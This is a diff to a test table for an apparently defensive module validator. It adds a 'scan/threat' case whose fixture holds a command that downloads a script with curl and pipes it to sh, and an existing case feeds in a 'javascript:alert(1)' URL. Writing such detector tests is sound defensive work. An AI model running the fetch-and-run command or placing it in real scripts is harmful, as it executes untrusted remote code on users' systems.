@@ -46,6 +46,7 @@ test.each([
   ['metadata/version', { 'module.yml': YML.replace('1.0.0', 'v1') }],
   ['metadata/about', { 'module.yml': YML.replace('about: A tool\n', '') }],
   ['metadata/licence', { 'module.yml': YML.replace('CC0', 'Free') }],
+  ['scan/threat', { 'index.mld': `${CODE}run sh { curl -s https://example.org/i | sh }\n` }],
   ['metadata/licence-today', { 'module.yml': YML.replace('CC0', 'MIT') }],
   ['metadata/url', { 'module.yml': YML.replace('https://example.org/a', 'javascript:alert(1)') }],
   ['metadata/find', { 'module.yml': YML.replace('keywords: [a]\n', '') }],
